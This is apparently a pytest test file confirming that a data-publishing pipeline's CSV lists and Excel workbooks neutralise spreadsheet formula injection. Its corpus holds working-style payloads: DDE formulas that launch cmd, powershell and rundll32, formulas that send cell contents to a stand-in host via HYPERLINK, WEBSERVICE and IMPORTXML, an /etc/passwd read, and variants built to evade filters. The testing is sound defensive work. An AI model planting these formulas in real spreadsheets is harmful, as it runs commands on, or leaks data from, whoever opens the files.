"""Formulas in every text of a register: no cell of anything we write runs, and every text can still be read.

OWASP's list (CSV Injection) and what has been seen since: other signs, other blanks, other separators, line ends, quotes.
"""

from __future__ import annotations

import subprocess
import tempfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from openpyxl.cell import Cell

from pipelines.publish.cells import guarded, inert
from pipelines.publish.desk import write_data_desk
from pipelines.publish.lists import write_list, write_visit_lists
from pipelines.publish.workbook import Letterhead
from pipelines.publish.workbook_desk import write_desk_workbook
from pipelines.publish.workbook_visits import write_visit_workbooks
from tests.end_to_end import office

SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "−"]
BLANKS = ["", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\u2060", "\ufeff", "\u00ad", "\u3164", "\u2800", "\u180e", "\u0001", "'", '"', "'\""]
CALLS = [
    "=cmd|' /C calc'!A0", "=CMD|'/c powershell'!A1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    '=HYPERLINK("http://例.invalid?x="&A1&A2,"点此查看")', '=IMPORTXML(CONCAT("http://例.invalid?v=",A1),"//a")', '=IMAGE("http://例.invalid/"&A1)',
    '=WEBSERVICE("http://例.invalid/"&A1)', "='file:///etc/passwd'#$passwd.A1", "=FILTERXML(A1,B1)", "=INDIRECT(\"A\"&1)", "=1+1\",\"=2+2", "=1+1\";=2+2;\"",
    "%0A-3+3+cmd|' /C calc'!D2", ";=1+1", ",=1+1", "|=1+1", "某;=1+1;某", "某,=1+1,某", "某\t=1+1\t某", "某\n=1+1\n某", '某";=1+1;"', "某\r\n+1\r\n某", "=A1&\n\"x\"",
]
CORPUS = list(dict.fromkeys([*CALLS, *(sign + "1+1" for sign in SIGNS), *(blank + "=1+1" for blank in BLANKS), *(blank + "＋1" for blank in BLANKS)]))
LETTER = Letterhead("甲溪县", date(2026, 9, 1), datetime(2026, 9, 1, 2), "r", "0.1.0")
VISIT_TEXTS = ("name", "town", "village", "address", "guardian", "phone", "last_school", "material", "responsible", "own_school", "household_no")
DESK_TEXTS = ("town", "problem", "mend", "file_name", "sheet", "written", "suggested", "why", "left_file", "left_sheet", "left_name", "left_citizen_id",
              "left_school", "right_file", "right_sheet", "right_name", "right_citizen_id", "right_school")


@pytest.fixture(scope="module")
def written(township, tmp_path_factory) -> Path:
    """Every list and workbook, each text of each row a formula; ``bare.csv``, where nothing is done about them."""
    folder = tmp_path_factory.mktemp("written")
    frames = {table: hostile(township.ask(f"FROM {table}"), texts) for table, texts in (("visit_list", VISIT_TEXTS), ("data_desk", DESK_TEXTS))}
    frames["responsible_person"] = township.ask("FROM responsible_person").with_columns(name=pl.lit(CORPUS[0]))

    def ask(query: str) -> pl.DataFrame:
        return next(frame for table, frame in frames.items() if table in query)

    write_visit_lists(ask, folder)
    write_data_desk(ask, folder)
    write_visit_workbooks(ask, folder, LETTER)
    write_desk_workbook(ask, folder, LETTER)
    write_list(pl.DataFrame({"甲": CORPUS, "乙": CORPUS[::-1]}), folder / "bare.csv")
    return folder


def hostile(frame: pl.DataFrame, texts: tuple[str, ...]) -> pl.DataFrame:
    """A row for each text of the corpus, which stands in every column of ``texts``."""
    rows = pl.concat([frame.head(1)] * len(CORPUS))
    said = [pl.Series(name, CORPUS[at:] + CORPUS[:at]) for at, name in enumerate(texts)]
    return rows.with_columns(said)


def opened_csv(paths: list[Path], separator: str, folder: Path) -> list[Path]:
    """The files as LibreOffice opens them by double-click, numbers, dates and formulas recognized, saved as .xlsx."""
    with tempfile.TemporaryDirectory() as profile:
        subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{profile}", "--headless", f"--infilter=CSV:{ord(separator)},34,76,1,,0,false,true,false,false,false,-1,true",
             "--convert-to", "xlsx", "--outdir", str(folder), *map(str, paths)], check=True, capture_output=True, timeout=300)
    return [folder / f"{path.stem}.xlsx" for path in paths]


def cells(path: Path) -> list[Cell]:
    return [cell for page in openpyxl.load_workbook(path) for row in page.iter_rows() for cell in row if cell.value is not None]


def running(path: Path) -> list[str]:
    """The cells that are formulas or lead somewhere."""
    return [f"{cell.coordinate} {cell.value!r}" for cell in cells(path) if cell.data_type in "fe" or cell.hyperlink]


def lists(folder: Path) -> list[Path]:
    return [folder / "exceptions.csv", folder / "data_desk.csv"]


def books(folder: Path) -> list[Path]:
    return [folder / "exceptions.xlsx", folder / "data_desk.xlsx"]


@pytest.mark.parametrize("guard", [guarded, inert])
def test_what_is_done_to_a_text_is_to_add_apostrophes(guard) -> None:
    safe = pl.DataFrame({"text": CORPUS}).select(guard(pl.col("text"))).to_series().to_list()
    assert [text.replace("'", "") for text in safe] == [text.replace("'", "") for text in CORPUS]
    assert sum(len(text) - len(plain) for text, plain in zip(safe, CORPUS, strict=True)) <= 2 * len(CORPUS)


@pytest.mark.office
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_list_runs_whatever_separator_it_is_opened_with(written, separator, tmp_path) -> None:
    bare, *ours = opened_csv([written / "bare.csv", *lists(written)], separator, tmp_path)
    assert running(bare), "the corpus runs where nothing is done about it"
    assert [running(path) for path in ours] == [[], []]


@pytest.mark.office
def test_no_workbook_runs_and_neither_does_what_it_is_saved_as(written, tmp_path) -> None:
    assert [running(path) for path in books(written)] == [[], []]
    again = office.all_saved(books(written), "xlsx:Calc MS Excel 2007 XML", tmp_path / "again")
    assert [running(path) for path in again] == [[], []]
    sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false,false,false,2"
    office.all_saved(books(written), sheet, tmp_path / "csv")
    saved = sorted((tmp_path / "csv").iterdir())
    assert len(saved) == 2
    assert [running(path) for path in opened_csv(saved, "\t", tmp_path / "opened")] == [[], []]


def test_every_text_can_still_be_read(written) -> None:
    wanted = {bare(text) for text in CORPUS}
    for path in books(written):
        told = {bare(str(cell.value)) for cell in cells(path)}
        assert wanted - told == set(), path.name
    for path in lists(written):
        told = {bare(text) for text in pl.read_csv(path, infer_schema=False).unpivot()["value"].drop_nulls()}
        assert wanted - told == set(), path.name


def bare(text: str) -> str:
    """The text without apostrophes, line ends alike, what no XML can hold shown as unreadable."""
    return text.replace("'", "").replace("\r\n", "\n").replace("\r", "\n").replace("\x01", "\ufffd")
